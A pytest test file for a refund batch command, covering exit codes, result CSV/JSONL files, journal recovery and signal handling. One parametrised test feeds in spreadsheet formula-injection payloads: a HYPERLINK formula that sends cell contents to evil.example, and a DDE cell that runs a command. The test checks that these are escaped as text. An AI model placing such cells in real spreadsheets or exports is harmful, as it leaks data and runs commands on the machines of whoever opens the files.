"""``lianlian batch``: refunds over a socket, every exit code, and runs after an interruption."""

import csv
import re
import signal
import time
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import anyio
import pytest

from lianlian_async.cli.batch.checked import Line
from lianlian_async.cli.batch.results import Totals
from lianlian_async.cli.sandbox.server import environment, serving
from lianlian_async.cli.signals import one_interruption, sigterm_interrupts
from lianlian_async.errors import JournalError, LianLianError
from lianlian_async.models import RefundRequest
from lianlian_async.outcome import Outcome
from lianlian_async.sandbox import Fault, Repeated, SandboxGateway, When
from tests.support.batches import read_csv, read_lines, refund, write_csv, write_lines
from tests.support.command import end, interruption, read_env_file, run, start, until

SHORT = ("--deadline", "2", "--not-found-grace", "2.5")
"""Options for refunds without a response: long enough for the others on a busy machine."""
LONG = ("--deadline", "3", "--not-found-grace", "6")
"""The same, and the wait for unknown refunds lasts several looks at the batch."""
NEW_JOURNAL = (
    "this journal is new, so every refund counts as never sent; if some may have been sent before, wait 15 minutes "
    "after the last run and use --query-first\n"
)


@pytest.fixture(autouse=True)
def journal(tmp_path, monkeypatch):
    """The journal of all commands."""
    monkeypatch.setenv("LIANLIAN_JOURNAL", str(tmp_path / "journal.sqlite"))
    return tmp_path / "journal.sqlite"


@pytest.fixture
def gateway():
    """A sandbox that makes a refund again if it is sent again; every refund is final at once."""
    return SandboxGateway(default_order=Decimal("1000.00"), settle_after=0.0, repeated=Repeated.AGAIN)


@pytest.fixture
def file(tmp_path):
    """A file of ten refunds, alone in its folder."""
    return refunds(tmp_path / "refunds.csv", 10)


def refunds(path, count):
    return write_csv(path, [refund(number) for number in range(count)])


def books(gateway):
    """Return how many times each refund was made."""
    return {record.no_refund: gateway.times_made(record.no_refund) for record in gateway.refunds}


def once(count):
    return {f"R-{number}": 1 for number in range(count)}


# ── made ─────────────────────────────────────────────────────────────────────────────────────────


def test_every_refund_of_a_file_is_made(env, gateway, file, journal):
    """Every refund is made once; the output is tables, the exit code 0, and the journal exists."""
    ended = run("batch", file, "--yes", env=env)
    assert ended.exit_code == 0
    assert ended.stdout.startswith("10 of 10 refunds made")
    assert "│ made     │ 10      │ 100.00 │" in ended.stdout
    assert "│ attempts │ 10 " in ended.stdout
    assert "to do" not in ended.stdout
    assert ended.stderr == NEW_JOURNAL
    assert books(gateway) == once(10)
    assert journal.exists()


def test_second_run_sends_nothing(env, gateway, file, journal):
    """A second run counts what the journal knows, takes the outcomes from it, and has the same exit code."""
    run("batch", file, "--yes", env=env)
    again = run("batch", file, "--yes", "--json", env=env)
    assert again.exit_code == 0
    assert again.stderr == f"journal {journal}: 0 new, 10 made, 0 open\n"
    assert again.json["outcomes"]["made"] == {"refunds": 10, "yuan": "100.00"}
    assert (again.json["attempts"], again.json["queries"]) == (0, 0)
    assert again.json["found"] == {"new": 0, "made": 10, "open": 0}
    assert gateway.requests["apply"] == 10


def test_batch_from_stdin(env, gateway, file, tmp_path):
    """Refunds from stdin are made and recorded in the journal of --journal."""
    journal = tmp_path / "elsewhere"
    ended = run("batch", "-", "--yes", "--journal", journal, env=env, stdin=file.read_text())
    assert ended.exit_code == 0
    assert journal.exists()
    assert books(gateway) == once(10)


def test_rate_does_not_delay_refunds_in_the_journal(env, file):
    """--rate delays requests only: a file whose refunds are all in the journal is done at once."""
    assert run("batch", file, "--yes", "--rate", "1000", env=env).exit_code == 0
    again = run("batch", file, "--yes", "--rate", "0.001", "--json", env=env)
    assert (again.json["outcome"], again.json["attempts"]) == ("made", 0)


def test_terminal_shows_progress_of_batch(env, file):
    """On a terminal of 80 columns two lines show a bar, rate and ETA, the outcomes so far and the rest."""
    ended = run("batch", file, "--yes", "--json", env=env | {"FORCE_COLOR": "1", "COLUMNS": "80"})
    assert re.search(r"10 of 10  \d+/s  ETA 0:00:00", ended.stderr)
    assert "\n10 made  0 rejected  0 unknown  0 to do" in ended.stderr
    assert ended.json["outcome"] == "made"


def test_colour_is_for_what_needs_a_person(env, gateway, file):
    """Rejected and failed refunds are red, unknown ones yellow; NO_COLOR shows no escape bytes."""
    write_csv(file, [refund(1), refund(2, money_refund="1000.01"), refund(3), refund(4)])
    gateway.fail("R-3")
    gateway.script(Fault.NO_ANSWER, call="apply", no_refund="R-4")
    gateway.script(Fault.HTTP_500, call="query", times=1000)
    terminal = env | {"FORCE_COLOR": "1"}
    ended = run("batch", file, "--yes", *SHORT, env=terminal)
    coloured = "1 made  \x1b[31m1 rejected\x1b[0m  \x1b[33m1 unknown\x1b[0m  \x1b[31m1 failed\x1b[0m  0 to do"
    assert coloured in ended.stderr
    assert "\x1b[31m1 rejected: 5003 refund amount does not fit the original" in ended.stdout
    again = run("batch", file, "--yes", *SHORT, env=terminal | {"NO_COLOR": "1"})
    assert "\n1 rejected: 5003 refund amount does not fit the original" in again.stdout
    assert "\x1b" not in again.stdout + again.stderr


# ── the result file ──────────────────────────────────────────────────────────────────────────────

OURS = (
    *("outcome", "what_to_do", "meaning", "ret_code", "ret_msg", "oid_refundno", "sta_refund", "settle_date"),
    *("ask_again_at", "error", "attempts", "queries", "seconds"),
)
SECRET_FORMULA = '=HYPERLINK("https://evil.example/"&A1)'


def results(out):
    """Return the result lines by line number; an empty cell is None."""
    lines = (read_lines if out.suffix == ".jsonl" else read_csv)(out)
    return {int(line["line"]): {name: value or None for name, value in line.items()} for line in lines}


@pytest.mark.parametrize("name", ["results.jsonl", "results.CSV"])
def test_out_has_the_columns_of_the_file_and_the_outcomes(env, file, tmp_path, name):
    """--out has each line's own columns and its outcome, with Chinese text, even if it came from the journal."""
    out = tmp_path / name
    rows = [refund(1), refund(2, money_refund="1000.01"), refund(3)]
    write_csv(file, [row | {"客户": f"王{row['no_refund']}", "outcome": "earlier"} for row in rows])
    for attempts in (1, 0):
        assert run("batch", file, "--yes", "--ignore-unknown", "--out", out, env=env).exit_code == 3
        lines = results(out)
        made, rejected = lines[2], lines[3]
        own = ("line", "no_refund", "dt_refund", "money_refund", "no_order", "客户", "outcome")
        assert tuple(made) == own + OURS[1:]
        assert (made["no_refund"], made["outcome"], made["sta_refund"]) == ("R-1", "made", "2")
        assert (made["ret_msg"], made["money_refund"], made["meaning"]) == ("交易成功", "10.00", "accepted")
        assert (made["客户"], made["what_to_do"], made["error"]) == ("王R-1", None, None)
        assert len(made["settle_date"]) == 8
        assert made["oid_refundno"]
        assert int(made["attempts"] or 0) == attempts
        assert (rejected["outcome"], rejected["ret_code"], rejected["sta_refund"]) == ("rejected", "5003", None)
        assert rejected["meaning"] == "refund amount does not fit the original"
        assert (
            rejected["what_to_do"] == "the gateway will not make this refund; send a corrected one with a new no_refund"
        )
        assert "5003" in rejected["error"]


@pytest.mark.parametrize("name", ["results.csv", "results.jsonl"])
def test_out_has_repeated_lines(env, gateway, file, tmp_path, name):
    """A line that repeats another one has a result line, with the file's columns and the filled-in fields."""
    rows = [refund(1, no_refund=None, note=note) | {"number": "R-1"} for note in ("a", "b")]
    reading = ("--map", "no_refund=number", "--ignore-unknown", "--out", tmp_path / name)
    assert run("batch", write_csv(file, rows), "--yes", *reading, env=env).exit_code == 0
    lines = results(tmp_path / name)
    assert [lines[number]["outcome"] for number in (2, 3)] == ["made", "repeated"]
    assert [lines[number]["note"] for number in (2, 3)] == ["a", "b"]
    repeated = lines[3]
    assert (repeated["number"], repeated["no_refund"], repeated["what_to_do"]) == ("R-1", "R-1", None)
    assert repeated["meaning"] == "repeats line 2: refund R-1 is made at most once"
    assert books(gateway) == {"R-1": 1}


def test_out_has_the_fields_that_the_command_filled_in(env, file, tmp_path):
    """The result lines have the time from --dt-refund, as it was sent."""
    write_csv(file, [refund(1, dt_refund=None)])
    out = tmp_path / "results.csv"
    assert run("batch", file, "--dt-refund", "20261122020000", "--yes", "--out", out, env=env).exit_code == 0
    line = results(out)[2]
    assert line["dt_refund"] == "20261122020000"
    assert tuple(line)[:6] == ("line", "no_refund", "money_refund", "no_order", "dt_refund", "outcome")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (SECRET_FORMULA, f"'{SECRET_FORMULA}"),
        ("+86 138 0000 0000", "'+86 138 0000 0000"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("＝1+1", "'＝1+1"),
        ("-12.50", "-12.50"),
        ("-1,234.50", "-1,234.50"),
        ("a=b", "a=b"),
    ],
)
def test_no_cell_of_out_is_a_formula(env, tmp_path, cell, written):
    """A cell or column name that a spreadsheet would run as a formula is marked as text in CSV; JSON is left alone."""
    file = write_lines(tmp_path / "refunds.jsonl", [refund(1) | {"note": cell, cell: "x"}])
    for name, column, text in (("results.csv", written, written), ("results.jsonl", cell, cell)):
        run("batch", file, "--yes", "--ignore-unknown", "--out", tmp_path / name, env=env)
        line = results(tmp_path / name)[1]
        assert (line["note"], line[column]) == (text, "x")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_out_has_the_semicolons_of_the_file(env, file, tmp_path, delimiter):
    """A spreadsheet that writes semicolons, such as a German Excel, would not split a line at commas."""
    write_csv(file, [refund(1, money_refund="1,00") | {"note": "a,=1;b"}], delimiter=delimiter)
    reading = ("--ignore-unknown", "--money-format", "1.234,56", "--yes")
    assert run("batch", file, *reading, "--out", tmp_path / "results.csv", env=env).exit_code == 0
    text = (tmp_path / "results.csv").read_text("utf-8-sig")
    [line] = csv.DictReader(text.splitlines(), delimiter=";" if delimiter == ";" else ",")
    assert (line["no_refund"], line["money_refund"], line["note"]) == ("R-1", "1,00", "a,=1;b")


def test_out_has_the_lines_that_were_not_sent(env, gateway, file, tmp_path):
    """After an interruption --out has all lines: invalid ones, those in flight, and those to do."""
    out = tmp_path / "results.csv"
    rows = [refund(number) for number in range(10)]
    write_csv(file, [*rows[:5], refund("X", money_refund="-1"), refund("Y"), refund("Y", no_order="other"), *rows[5:]])
    process = start_until_stuck(gateway, file, env, "--skip-invalid", "--out", out, sent=3, stuck=2)
    process.send_signal(signal.SIGINT)
    assert end(process, env).exit_code == 130
    lines = results(out)
    outcomes = [line["outcome"] for _, line in sorted(lines.items())]
    assert sorted(outcomes[:5]) == ["made"] * 3 + ["unknown"] * 2
    assert outcomes[5:] == ["invalid"] * 3 + ["to do"] * 5
    unknown = next(line for line in lines.values() if line["outcome"] == "unknown")
    assert unknown["what_to_do"] == "run the same command again; do not use a new no_refund"
    assert lines[7]["error"].startswith("money_refund: must be")
    assert lines[7]["no_refund"] == "R-X"
    assert lines[8]["error"] == "no_refund R-Y has a different no_order on line 9"
    assert lines[9]["error"] == "no_refund R-Y has a different no_order on line 8"
    assert lines[14]["what_to_do"] == "run the same command again"


@pytest.mark.parametrize("more", [("--yes",), ("--dry-run",)])
def test_out_of_an_invalid_file_has_all_lines(env, gateway, file, tmp_path, more):
    """It lists every problem, and no outcome of an earlier run."""
    out = tmp_path / "results.csv"
    assert run("batch", file, "--yes", "--out", out, env=env).exit_code == 0
    write_csv(file, [refund(1), *(refund(number, money_refund="0.001") for number in range(2, 70)), refund(1)])
    assert run("batch", file, *more, "--out", out, env=env).exit_code == 2
    lines = [line for _, line in sorted(results(out).items())]
    assert [line["outcome"] for line in lines] == ["to do"] + ["invalid"] * 68 + ["repeated"]
    assert all(line["error"].startswith("money_refund: must") for line in lines[1:69])
    assert gateway.requests["apply"] == 10


# ── what was not made ────────────────────────────────────────────────────────────────────────────


def test_refunds_that_were_not_made_are_listed_by_reason(env, gateway, file):
    """The output ends with every refund that was not made, by reason, and what to do about it."""
    rows = [refund(1), refund(2, money_refund="1000.01"), refund(3), refund(4, no_order=None, oid_paybill="2026")]
    write_csv(file, rows)
    gateway.fail("R-3")
    gateway.script(Fault.BUSY, ret_code="9910", when=When.BEFORE, no_refund="R-4")
    assert run("batch", file, "--yes", env=env).exit_code == 3
    write_csv(file, [refund(1, money_refund="11"), *rows[1:]])
    people, machine = (run("batch", file, "--yes", *more, env=env) for more in ((), ("--json",)))
    assert people.exit_code == 3
    assert "1 conflict: the no_refund belongs to a refund with another money_refund" in people.stdout
    assert "what to do: do not refund again before a person has decided" in people.stdout
    assert "1 failed: made, but failed at the bank (sta_refund 3)" in people.stdout
    assert "1 rejected: 5003 refund amount does not fit the original" in people.stdout
    assert "│ 3    │ R-2       │ O-2   │ 1,000.01 │" in people.stdout
    assert "│ 5    │ R-4       │ 2026  │ 10.00 │" in people.stdout
    listed = {(reason["outcome"], reason["ret_code"]): reason for reason in machine.json["not_made"]}
    assert listed["rejected", "5003"]["lines"] == [{"line": 3, "no_refund": "R-2", "order": "O-2", "yuan": "1000.01"}]
    assert set(listed) == {("conflict", None), ("failed", None), ("rejected", "5003"), ("rejected", "9910")}


def test_out_of_a_stopped_batch_has_all_lines(env, gateway, file, tmp_path):
    """If the batch stops, --out has the invalid lines and the lines still to do."""
    write_csv(file, [refund(1), refund(2, money_refund="-1"), refund(3)])
    gateway.script(Fault.BUSY, ret_code="3001", when=When.BEFORE)
    options = ("--yes", "--skip-invalid", "--concurrency", "1", "--out", tmp_path / "results.csv")
    assert run("batch", file, *options, env=env).exit_code == 3
    lines = results(tmp_path / "results.csv")
    assert [lines[number]["outcome"] for number in (2, 3, 4)] == ["rejected", "invalid", "to do"]
    assert lines[3]["what_to_do"] == "correct the line, then run the same command again"


def test_other_errors_are_listed_as_reasons():
    """A refund that the journal rejected is listed with the journal's error."""
    totals, request = Totals(1), RefundRequest.from_dict(refund(1))
    error = JournalError("journal refunds.sqlite: disk full")
    outcome = Outcome(request=request, refund=None, error=error, attempts=0, queries=0, seconds=0.0)
    totals.add(Line(2, request, {}), outcome)
    [(reason, lines)] = totals.not_made.items()
    assert (reason.reason, reason.advice) == (str(error), "run the same command again")
    assert lines == [Line(2, request, {})]


@pytest.mark.parametrize("has_out", [True, False])
def test_long_lists_are_cut(env, gateway, tmp_path, has_out):
    """Twenty refunds are listed for each reason; the rest is in --out."""
    file, out = refunds(tmp_path / "refunds.csv", 30), tmp_path / "results.csv"
    gateway.script(Fault.BUSY, ret_code="9910", when=When.BEFORE, times=30)
    ended = run("batch", file, "--yes", *(["--out", out] if has_out else []), env=env)
    assert "30 rejected: 9910 risk level too high" in ended.stdout
    assert f"… and 10 more: {out if has_out else 'use --out to list all'}" in ended.stdout


# ── every other end ──────────────────────────────────────────────────────────────────────────────


def test_some_rejected_exits_3(env, file):
    """Rejections are counted by code, with their yuan."""
    write_csv(file, [refund(1), refund(2, money_refund="1000.01"), refund(3, money_refund="2000")])
    ended = run("batch", file, "--yes", "--json", env=env)
    assert ended.exit_code == 3
    assert ended.json["outcome"] == "rejected"
    assert ended.json["outcomes"]["rejected"] == {"refunds": 2, "yuan": "3000.01"}
    [reason] = ended.json["not_made"]
    assert (reason["ret_code"], reason["refunds"]) == ("5003", 2)


def test_some_failed_exits_3(env, gateway, file):
    """A refund that failed at the bank is not made."""
    gateway.fail("R-4")
    ended = run("batch", file, "--yes", "--json", env=env)
    assert (ended.exit_code, ended.json["outcome"]) == (3, "failed")
    assert ended.json["outcomes"]["failed"] == {"refunds": 1, "yuan": "10.00"}


def test_some_unknown_exits_4(env, gateway, file, journal):
    """An unknown refund outweighs a rejected one; the output says when to run again, and that run finds the refund."""
    write_csv(file, [refund(2), refund(3, money_refund="1000.01")])
    run("batch", file, "--yes", env=env)
    write_csv(file, [refund(1), refund(2), refund(3, money_refund="1000.01")])
    gateway.script(Fault.NO_ANSWER, call="apply", no_refund="R-1")
    gateway.script(Fault.HTTP_500, call="query", times=1000)
    ended = run("batch", file, "--yes", *SHORT, env=env)
    assert ended.exit_code == 4
    assert "│ unknown  │ 1 " in ended.stdout
    assert "to resolve the unknown refunds, run the same command again after 20" in ended.stderr
    gateway._plan.scripted.clear()
    again = run("batch", file, "--yes", "--json", env=env)
    assert again.exit_code == 3
    assert again.stderr == f"journal {journal}: 0 new, 1 made, 1 open, 1 rejected\n"
    assert (again.json["attempts"], again.json["queries"]) == (0, 1)
    assert books(gateway) == {"R-1": 1, "R-2": 1}


@pytest.mark.parametrize("terminal", [{}, {"FORCE_COLOR": "1"}])
def test_wait_unknown_resolves_unknown_refunds(env, gateway, file, terminal):
    """--wait-unknown queries again when that can resolve the refund, and says when that is, in local time."""
    gateway.script(Fault.LATE, call="apply", delay=3600.0)  # the request never arrives at the gateway
    ended = run("batch", file, "--yes", "--json", "--wait-unknown", *LONG, env=env | terminal)
    assert (ended.exit_code, ended.json["outcome"]) == (0, "made")
    zone = datetime.now().astimezone().strftime("%z")
    [said] = re.findall(r"waiting until (20\S+ \S+) to resolve 1 unknown refunds", ended.stderr)
    assert datetime.fromisoformat(said).strftime("%z") == zone
    assert ("9 made  0 rejected  \x1b[33m1 unknown\x1b[0m  0 to do" in ended.stderr) == bool(terminal)
    assert ended.json["attempts"] >= 11
    assert books(gateway) == once(10)


def test_unreachable_gateway_exits_1(gateway, file):
    """If the connection is refused, all refunds are not sent: exit code 1."""
    nowhere = environment(gateway, "http://127.0.0.1:9")
    ended = run("batch", file, "--yes", "--json", "--deadline", "1", env=nowhere)
    assert (ended.exit_code, ended.json["outcome"]) == (1, "not sent")
    assert ended.json["outcomes"]["not sent"]["refunds"] == 10
    assert run("batch", file, "--dry-run", "--json", env=nowhere).json["found"]["new"] == 10


@pytest.mark.parametrize("as_json", [True, False])
def test_rejected_configuration_stops_the_batch(env, gateway, file, as_json):
    """A rejection that applies to every refund stops the batch: exit code 3, with advice."""
    gateway.script(Fault.BUSY, ret_code="3001", when=When.BEFORE, skip=2, times=1000)
    ended = run("batch", file, "--yes", "--concurrency", "1", *(["--json"] if as_json else []), env=env)
    assert ended.exit_code == 3
    if as_json:
        assert ended.json["outcome"] == "batch stopped"
        assert ended.json["to_do"] == {"refunds": 7, "yuan": "70.00"}
        assert ended.json["error"]["type"] == "BatchStopped"
    else:
        assert "│ to do    │ 7 " in ended.stdout
        assert ended.stderr.startswith(f"{NEW_JOURNAL}batch stopped: ")
    assert gateway.requests["apply"] == 3


@pytest.mark.parametrize("as_json", [True, False])
def test_a_wrong_gateway_key_stops_the_batch(env, gateway, tmp_path, stranger_keys, as_json):
    """Only four of 60 refunds are sent; the output names the key and the reason: exit code 4."""
    file = refunds(tmp_path / "refunds.csv", 60)
    wrong = env | {"LIANLIAN_GATEWAY_PUBLIC_KEYS": stranger_keys.public.to_base64()}
    ended = run("batch", file, "--yes", "--deadline", "1", *(["--json"] if as_json else []), env=wrong)
    assert (ended.exit_code, gateway.requests["apply"]) == (4, 4)
    if as_json:
        [reason] = ended.json["not_made"]
        assert (reason["outcome"], reason["reason"], reason["refunds"]) == ("unknown", "signature invalid", 4)
        assert ended.json["to_do"]["refunds"] == 56
        assert "LIANLIAN_GATEWAY_PUBLIC_KEYS" in ended.json["error"]["message"]
    else:
        assert "4 unknown: signature invalid" in ended.stdout
        assert "LIANLIAN_GATEWAY_PUBLIC_KEYS" in ended.stderr
    assert run("batch", file, "--yes", env=env).exit_code == 0
    assert books(gateway) == once(60)


def test_keep_going_continues_after_rejected_configuration(env, gateway, file):
    """--keep-going sends the other refunds."""
    gateway.script(Fault.BUSY, ret_code="3001", when=When.BEFORE)
    ended = run("batch", file, "--yes", "--json", "--keep-going", "--concurrency", "1", env=env)
    assert ended.exit_code == 3
    assert ended.json["outcomes"]["made"]["refunds"] == 9


def test_stopped_batch_with_unknown_refund_exits_4(env, gateway, file):
    """A stopped batch with an unknown refund exits with 4."""
    gateway.script(Fault.BUSY, ret_code="3001", when=When.BEFORE, no_refund="R-1")
    gateway.script(Fault.NO_ANSWER, times=1000)
    ended = run("batch", file, "--yes", "--json", "--concurrency", "1", *SHORT, env=env)
    assert (ended.exit_code, ended.json["outcome"]) == (4, "batch stopped")
    assert ended.json["outcomes"]["unknown"]["refunds"] == 1


def test_journal_in_use_with_no_wait_exits_1(env, gateway, file):
    """With --no-wait a concurrent second run ends with an error, and sends nothing."""
    gateway.script(Fault.NO_ANSWER)
    process = start("batch", file, "--yes", "--concurrency", "1", env=env)
    until(lambda: gateway.requests["apply"])
    ended = run("batch", file, "--yes", "--no-wait", env=env)
    assert ended.exit_code == 1
    assert "has it open; wait until that process has ended" in ended.stderr
    assert gateway.requests["apply"] == 1
    process.kill()
    end(process, env)


def test_removed_journal_ends_the_batch(gateway, file, journal):
    """If the journal can no longer be written, nothing more is sent; refunds in flight are unknown: exit code 4."""

    async def thief(scope, receive, send):
        if gateway.requests["apply"] == 4:
            journal.unlink(missing_ok=True)
        await gateway(scope, receive, send)

    with serving(thief) as url:
        ended = run("batch", file, "--yes", "--json", "--concurrency", "1", env=environment(gateway, url))
    assert (ended.exit_code, ended.json["outcome"]) == (4, "journal error")
    assert ended.json["outcomes"]["made"]["refunds"] == 4
    [reason] = ended.json["not_made"]
    assert (reason["reason"], reason["refunds"]) == ("journal error after sending", 1)
    assert "was removed" in ended.json["error"]["message"]
    assert gateway.requests["apply"] == 5


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="this system has no full disk to offer")
@pytest.mark.parametrize("count", [10, 100])
def test_unwritable_out_exits_1(env, gateway, tmp_path, count):
    """A full disk under --out is an error, at the end or before; all refunds are made."""
    file = refunds(tmp_path / "refunds.csv", count)
    ended = run("batch", file, "--yes", "--json", "--out", "/dev/full", env=env)
    assert (ended.exit_code, ended.json["outcome"]) == (1, "error")
    assert ended.json["error"]["message"] == "/dev/full: No space left on device"
    assert ended.json["outcomes"]["made"]["refunds"] == count
    assert ("/dev/full: No space left on device; no more results are written" in ended.stderr) == (count == 100)
    assert books(gateway) == once(count)


def test_invalid_keys_exit_2(env, file):
    """A wrong configuration is an error, and nothing is sent."""
    ended = run("batch", file, "--yes", env=env | {"LIANLIAN_GATEWAY_PUBLIC_KEYS": "AAAA"})
    assert ended.exit_code == 2
    assert ended.stderr.startswith(f"{NEW_JOURNAL}configuration error: ")


def test_interruption_before_the_first_refund(gateway, file):
    """Ctrl-C at the start ends with a summary in which all refunds are to do."""
    with interruption(loops=1):  # the first event loop only reads the journal
        ended = run("batch", file, "--yes", "--json", env=environment(gateway, "http://127.0.0.1:9"))
    assert ended.exit_code == 130
    assert (ended.json["outcome"], ended.json["to_do"]["refunds"]) == ("interrupted", 10)
    assert ended.stderr.startswith(f"{NEW_JOURNAL}interrupted: every refund that was sent has an outcome; run")


def test_interruption_of_the_check_prints_json(gateway, file):
    """Ctrl-C before the batch has begun is one JSON object, too."""
    with interruption():
        ended = run("batch", file, "--yes", "--json", env=environment(gateway, "http://127.0.0.1:9"))
    assert (ended.exit_code, ended.json, ended.stderr) == (130, {"outcome": "interrupted"}, "interrupted\n")


# ── processes that die ───────────────────────────────────────────────────────────────────────────


def start_until_stuck(gateway, file, env, *options, sent, stuck, when=When.AFTER):
    """Start a batch as a process; ``sent`` requests get a response, and the next ``stuck`` ones never do."""
    gateway.script(Fault.NO_ANSWER, call="apply", skip=sent, times=stuck, when=when)
    process = start(
        "batch", file, "--yes", "--json", "--concurrency", stuck, "--not-found-grace", "1", *options, env=env
    )
    until(lambda: gateway.requests["apply"] == sent + stuck)
    return process


def test_second_interruption_does_not_disturb_the_shutdown():
    """In the event loop only the first Ctrl-C interrupts, so that the shutdown is clean."""
    ended = []

    async def main():
        with one_interruption():
            signal.raise_signal(signal.SIGINT)
            signal.raise_signal(signal.SIGINT)
            try:
                await anyio.sleep_forever()
            finally:
                signal.raise_signal(signal.SIGINT)
                ended.append("in good order")

    with pytest.raises(KeyboardInterrupt):
        anyio.run(main)
    assert ended == ["in good order"]


def test_batch_with_missing_outcomes_is_an_error():
    """A batch that ends without an outcome for each refund is an error."""
    Totals(0).check_complete()
    with pytest.raises(LianLianError, match="the batch ended with 247 refunds to do"):
        Totals(247).check_complete()


def test_ignored_sighup_stays_ignored():
    """``nohup lianlian batch`` continues after the end of the terminal."""
    before = signal.signal(signal.SIGHUP, signal.SIG_IGN)
    try:
        with sigterm_interrupts():
            signal.raise_signal(signal.SIGHUP)
    finally:
        signal.signal(signal.SIGHUP, before)


def test_sigterm_ends_a_batch_that_was_started_with_sigint_ignored(env, gateway, file):
    """A shell script starts background commands like this; SIGTERM must still end them cleanly."""
    before = signal.signal(signal.SIGINT, signal.SIG_IGN)
    try:
        process = start_until_stuck(gateway, file, env, sent=3, stuck=2)
    finally:
        signal.signal(signal.SIGINT, before)
    process.send_signal(signal.SIGTERM)
    ended = end(process, env)
    assert (ended.exit_code, ended.json["outcome"]) == (130, "interrupted")


@pytest.mark.parametrize(
    "numbers", [[signal.SIGINT], [signal.SIGTERM], [signal.SIGINT] * 2, [signal.SIGTERM] * 3, [signal.SIGHUP]]
)
def test_interrupted_batch_continues_in_the_next_run(env, gateway, file, numbers):
    """Ctrl-C, SIGTERM and SIGHUP, even repeated, end the batch cleanly with 130; the next run queries open refunds."""
    process = start_until_stuck(gateway, file, env, sent=3, stuck=2)
    for number in numbers:
        process.send_signal(number)
        time.sleep(0.0005)  # otherwise the kernel merges two signals into one
    ended = end(process, env)
    assert ended.exit_code == 130
    assert ended.json["outcome"] == "interrupted"
    assert ended.json["outcomes"]["made"]["refunds"] == 3
    assert (
        ended.stderr == f"{NEW_JOURNAL}up to 2 refunds without an outcome may have been made: "
        "run the same command again to resolve them\n"
    )
    again = run("batch", file, "--yes", "--json", env=env)
    assert again.json["found"] == {"new": 5, "made": 3, "open": 2}
    assert (again.json["attempts"], again.json["queries"]) == (5, 2)
    assert books(gateway) == once(10)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="this system has no full disk to offer")
def test_error_with_refunds_in_flight_exits_4(env, gateway, file):
    """If a batch ends with an error and refunds are in flight, their outcome is unknown."""
    process = start_until_stuck(gateway, file, env, "--out", "/dev/full", sent=0, stuck=2)
    process.send_signal(signal.SIGINT)
    ended = end(process, env)
    assert (ended.exit_code, ended.json["outcome"]) == (4, "error")
    assert "up to 2 refunds without an outcome may have been made" in ended.stderr
    assert len(gateway.refunds) == 2


def test_killed_batch_makes_every_refund_once(env, gateway, tmp_path):
    """After SIGKILL at three moments and a new run each time, every refund was made once."""
    file = refunds(tmp_path / "refunds.csv", 60)
    for sent, when in ((5, When.AFTER), (17, When.BEFORE), (11, When.AFTER)):
        process = start_until_stuck(gateway, file, env, sent=sent, stuck=4, when=when)
        process.kill()
        assert end(process, env).exit_code == -signal.SIGKILL
        gateway.requests.clear()
    ended = run("batch", file, "--yes", "--json", "--not-found-grace", "1", "--wait-unknown", env=env)
    assert (ended.exit_code, ended.json["outcomes"]["made"]["refunds"]) == (0, 60)
    assert ended.json["found"]["open"] == 4
    assert books(gateway) == once(60)


def test_batch_and_sandbox_as_processes(tmp_path):
    """``lianlian sandbox`` and ``lianlian batch`` as processes: a file in, a result file out."""
    env_file, out = tmp_path / "sandbox.env", tmp_path / "results.jsonl"
    sandbox = start("sandbox", "--env-file", env_file)
    try:
        assert "http://127.0.0.1:" in sandbox.stdout.readline()
        env, file = read_env_file(env_file), refunds(tmp_path / "refunds.csv", 100)
        ended = end(start("batch", file, "--yes", "--out", out, env=env), env)
    finally:
        sandbox.terminate()
        sandbox.communicate()
    assert (ended.exit_code, ended.stderr) == (0, NEW_JOURNAL)
    assert ended.stdout.startswith("100 of 100 refunds made")
    assert {line["no_refund"]: line["outcome"] for line in read_lines(out)} == dict.fromkeys(once(100), "made")
